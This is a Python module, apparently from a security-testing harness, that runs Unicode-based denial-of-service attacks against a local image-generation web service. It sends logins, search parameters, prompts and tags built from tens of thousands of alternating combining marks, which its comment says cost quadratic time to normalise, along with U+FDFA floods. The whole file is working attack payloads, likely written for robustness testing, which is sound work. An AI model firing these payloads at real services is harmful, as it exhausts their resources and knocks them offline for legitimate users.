"""Attacks with Unicode: combining marks, forms that become sentences, words to search for."""

import base64
import http.client
import json
from typing import Final
from urllib.parse import quote

from hostile_kit import Target, attack

# Marks of two classes in turns have to be put in order, which takes a time that grows with the square of their number.
_MARKS: Final = "\u0301\u0323"
_IN_A_ROW: Final = 64_000


@attack("a login of 64,000 combining marks")
def login_of_marks(target: Target) -> str:
    """Log in with a name of marks."""
    return _ask(target, "GET", "/private/image", login=(_MARKS * (_IN_A_ROW // 2), "correct horse"))


@attack("a login of 5,000 combining marks, which is a short header, ten times")
def short_logins_of_marks(target: Target) -> str:
    """Log in with a password of marks."""
    login = ("ann", "p" + _MARKS * 2_500)
    return [_ask(target, "GET", "/private/image", login=login) for _ in range(10)][-1]


@attack("lists by an author, a tag and words of 9,000 combining marks each")
def filters_of_marks(target: Target) -> str:
    """Look for marks."""
    marks = quote("e" + _MARKS * 4_500)
    return ", ".join(_ask(target, "GET", f"/image?{name}={marks}") for name in ("author", "tag", "q"))


@attack("prompts of 32,000 combining marks, of U+FDFA, and of 32,000 different characters")
def prompts_of_marks(target: Target) -> str:
    """Ask for images whose words take long to find."""
    different = "".join(chr(0x4E00 + number % 0x5000) for number in range(32_000))
    prompts = ("e" + _MARKS * 15_999, "\ufdfa" * 32_000, different)
    return ", ".join(_ask(target, "POST", "/image", {"prompt": text}, login=target.login) for text in prompts)


@attack("32 tags of 9,000 combining marks each")
def tags_of_marks(target: Target) -> str:
    """Ask for an image with tags of marks."""
    body = {"prompt": "a fox", "tags": [f"{number}{_MARKS * 4_500}" for number in range(32)]}
    return _ask(target, "POST", "/image", body, login=target.login)


def _ask(target: Target, method: str, path: str, body: object = None, *, login: tuple[str, str] | None = None) -> str:
    client = http.client.HTTPConnection("127.0.0.1", target.port, timeout=60)
    headers = {"Content-Type": "application/json"}
    if login is not None:
        headers["Authorization"] = f"Basic {base64.b64encode(':'.join(login).encode()).decode()}"
    try:
        client.request(method, path, None if body is None else json.dumps(body, ensure_ascii=False).encode(), headers)
        return str(client.getresponse().status)
    except (OSError, http.client.HTTPException) as exc:
        return type(exc).__name__
    finally:
        client.close()
